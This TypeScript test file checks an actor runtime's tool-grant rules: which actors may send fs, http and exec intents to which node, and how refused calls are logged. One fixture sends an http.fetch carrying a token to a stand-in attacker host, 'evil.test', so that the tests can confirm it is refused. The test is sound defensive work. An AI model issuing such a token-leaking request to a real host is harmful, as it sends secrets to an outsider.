// The capability that follows from a grant of tools, and who it reaches.

import { describe, expect, test } from "vitest";
import type { OutgoingIntent } from "../../src/actors/intent.ts";
import { CellError } from "../../src/errors/cell-error.ts";
import type { ActorSpec, PlacedGraph } from "../../src/manifest/graph.ts";
import { planGraph } from "../../src/manifest/plan.ts";
import type { ToolsSpec } from "../../src/manifest/tools.ts";
import { graphAuthority } from "../../src/runtime/node-graph.ts";
import { grantedTools, toolRefusal, toolTarget } from "../../src/runtime/tool-grants.ts";
import { grantAllows } from "../../src/security/grants/grants.ts";
import { RevocationList } from "../../src/security/revocation/revocation-list.ts";
import { noCapabilities } from "../security/cell-fixture.ts";

const tools: ToolsSpec = {
  http: [],
  fs: [{ name: "w", path: "/w", access: ["read"], maxBytes: 1, quotaBytes: 1 }],
  exec: [],
  concurrent: 1,
  perMinute: 1,
};

const actor = (path: string, fields: Partial<ActorSpec> = {}): ActorSpec => ({
  kind: "actor",
  path,
  behaviour: { module: "/b.ts", export: "b" },
  input: null,
  restart: "permanent",
  shutdownMs: 1,
  isolation: "shared",
  durable: false,
  mailbox: { bound: 1, whenFull: "refuse" },
  intents: {},
  grants: [],
  placement: {},
  ...fields,
});

const graphOf = (...children: readonly ActorSpec[]): PlacedGraph => ({
  roots: [
    {
      kind: "supervisor",
      path: "g",
      strategy: "one_for_one",
      intensity: 1,
      periodMs: 1,
      backoff: { initialMs: 0, maxMs: 0, factor: 1 },
      restart: "permanent",
      children,
    },
  ],
  clients: [],
  placed: Object.fromEntries(
    children.map(({ path }) => [path, { shard: 0, node: path.endsWith("far") ? "b" : "a", codeHash: "" }]),
  ),
});

const graph = graphOf(actor("g/agent", { tools }), actor("g/plain"), actor("g/far", { tools }));
const authority = graphAuthority({
  runningTemplate: () => undefined,
  placed: () => graph,
  firstNode: () => "a",
  isNode: () => true,
  capabilities: noCapabilities,
  revocations: new RevocationList(),
});
const may = (path: string, intent: string, target: string) =>
  grantAllows(authority.actorGrants(path).grants, intent, target);

test.each([
  ["g/agent", "fs.read", "kernel/a/fs", true],
  ["g/agent", "fs.write", "kernel/a/fs", true],
  ["g/agent", "fs.delete", "kernel/a/fs", false],
  ["g/agent", "http.fetch", "kernel/a/http", false],
  ["g/agent", "exec", "kernel/a/exec", false],
  ["g/agent", "fs.read", "kernel/b/fs", false],
  ["g/agent", "registry.stop", "kernel/a/registry", false],
  ["g/plain", "fs.read", "kernel/a/fs", false],
  ["g/far", "fs.read", "kernel/b/fs", true],
  ["g/far", "fs.read", "kernel/a/fs", false],
])("%s may send %s to %s: %s", (path, intent, target, allowed) => {
  expect(may(path, intent, target)).toBe(allowed);
});

test("an alias stands for the sender's own node, and nothing else does", () => {
  expect(
    ["kernel/http", "kernel/fs", "kernel/exec", "kernel/graph", "kernel/b/fs", "g/fs"].map((target) =>
      toolTarget(target, "a"),
    ),
  ).toEqual(["kernel/a/http", "kernel/a/fs", "kernel/a/exec", "kernel/graph", "kernel/b/fs", "g/fs"]);
});

test("the tools are placed on every node", () => {
  expect(authority.placementOf("kernel/a/exec")).toBe("a");
  expect(authority.placementOf("kernel/b/http")).toBe("b");
  expect(authority.placementOf("kernel/exec")).toBeUndefined();
});

describe("grants of the graph in force", () => {
  test("are the actor's own, on its own node", () => {
    const granted = grantedTools(() => graph, "a");
    expect(["g/agent", "g/plain", "g/far", "g/none", "kernel/graph", "__proto__"].map(granted)).toEqual([
      tools,
      "nothing",
      "elsewhere",
      "elsewhere",
      "elsewhere",
      "elsewhere",
    ]);
  });

  test("change with the graph", () => {
    let current = graph;
    const granted = grantedTools(() => current, "a");
    expect(granted("g/agent")).toBe(tools);
    current = graphOf(actor("g/agent"));
    expect(granted("g/agent")).toBe("nothing");
  });
});

test("children of a template have its tools, at its node, and may ask for them", () => {
  const [root] = graphOf().roots;
  if (root === undefined) throw new Error("no root");
  const template = actor("g/readers", { tools });
  const dynamic: PlacedGraph = {
    roots: [
      { ...root, children: [{ ...root, path: "g/readers", strategy: "simple_one_for_one", template }] },
    ],
    clients: [],
    placed: { "g/readers": { shard: 0, node: "a", codeHash: "" } },
  };
  const authorityOf = graphAuthority({
    runningTemplate: () => undefined,
    placed: () => dynamic,
    firstNode: () => "a",
    isNode: () => true,
    capabilities: noCapabilities,
    revocations: new RevocationList(),
  });
  expect(grantAllows(authorityOf.actorGrants("g/readers/one").grants, "fs.read", "kernel/a/fs")).toBe(true);
  expect(grantedTools(() => dynamic, "a")("g/readers/one")).toBe(tools);
  expect(grantedTools(() => dynamic, "b")("g/readers/one")).toBe("elsewhere");
  const told = planGraph(undefined, dynamic).changes.find(({ path }) => path === "g/readers");
  expect(told?.fields[0]).toEqual({ field: "tools", new: "fs read w (/w), 1B a file, 1B in all" });
});

describe("an actor without any grant of a tool", () => {
  const forbidden = new CellError("AUTHORITY_INTENT_FORBIDDEN");
  const outgoing = (fields: Partial<OutgoingIntent>): OutgoingIntent => ({
    target: "kernel/a/http",
    intent: "http.fetch",
    payload: { url: "https://evil.test/x?token=1" },
    cause: undefined,
    priority: "normal",
    timeoutMs: 1,
    ...fields,
  });

  test("hears what it lacks, and is on record without what it would have sent", () => {
    const refused = toolRefusal("g/plain", outgoing({}), forbidden, "a");
    expect(refused?.error).toMatchObject({ code: "TOOL_NOT_GRANTED", where: "g/plain" });
    expect(refused?.event).toMatchObject({
      actor: "g/plain",
      kind: { case: "toolRefused", value: { tool: "http.fetch", asked: "GET https://evil.test/x?..." } },
    });
  });

  test.each(["CAPABILITY_REVOKED", "CAPABILITY_EPOCH_STALE"] as const)(
    "hears %s where its tools were taken back, and is on record",
    (code) => {
      const refused = toolRefusal("g/agent", outgoing({}), new CellError(code), "a");
      expect(refused?.error).toMatchObject({ code });
      expect(refused?.event).toMatchObject({ kind: { case: "toolRefused", value: { error: { code } } } });
    },
  );

  test.each([
    ["another error", outgoing({}), new CellError("ACTOR_NOT_RUNNING")],
    ["an intent that is no tool's", outgoing({ intent: "http.delete" }), forbidden],
    ["another target", outgoing({ target: "kernel/a/registry" }), forbidden],
    ["a tool of another node", outgoing({ target: "kernel/b/http" }), forbidden],
  ])("%s stays what it is", (_, intent, error) => {
    expect(toolRefusal("g/plain", intent, error, "a")).toBeUndefined();
  });

  test("a payload that is too long to be kept, or throws when it is made a text, is on record too", () => {
    const asked = (target: string, intent: string, payload: unknown) => {
      const refused = toolRefusal("g/plain", outgoing({ target, intent, payload }), forbidden, "a");
      return refused?.event.kind.case === "toolRefused" ? refused.event.kind.value.asked : undefined;
    };
    expect(asked("kernel/a/fs", "fs.read", { path: `w/${"x".repeat(70_000)}` })).toHaveLength(300);
    const args = ["-l", { toString: 1, valueOf: 1 }, null];
    expect(asked("kernel/a/exec", "exec", { program: "ls", args })).toBe("ls -l (object) (object)");
  });

  test.each([null, "text", 7, [], { url: 7, args: "x", path: {} }])(
    "a payload of %j is recorded all the same",
    (payload) => {
      for (const [target, intent] of [
        ["kernel/a/http", "http.fetch"],
        ["kernel/a/fs", "fs.read"],
        ["kernel/a/exec", "exec"],
      ] as const) {
        expect(
          toolRefusal("g/plain", outgoing({ target, intent, payload }), forbidden, "a")?.event.kind.case,
        ).toBe("toolRefused");
      }
    },
  );
});
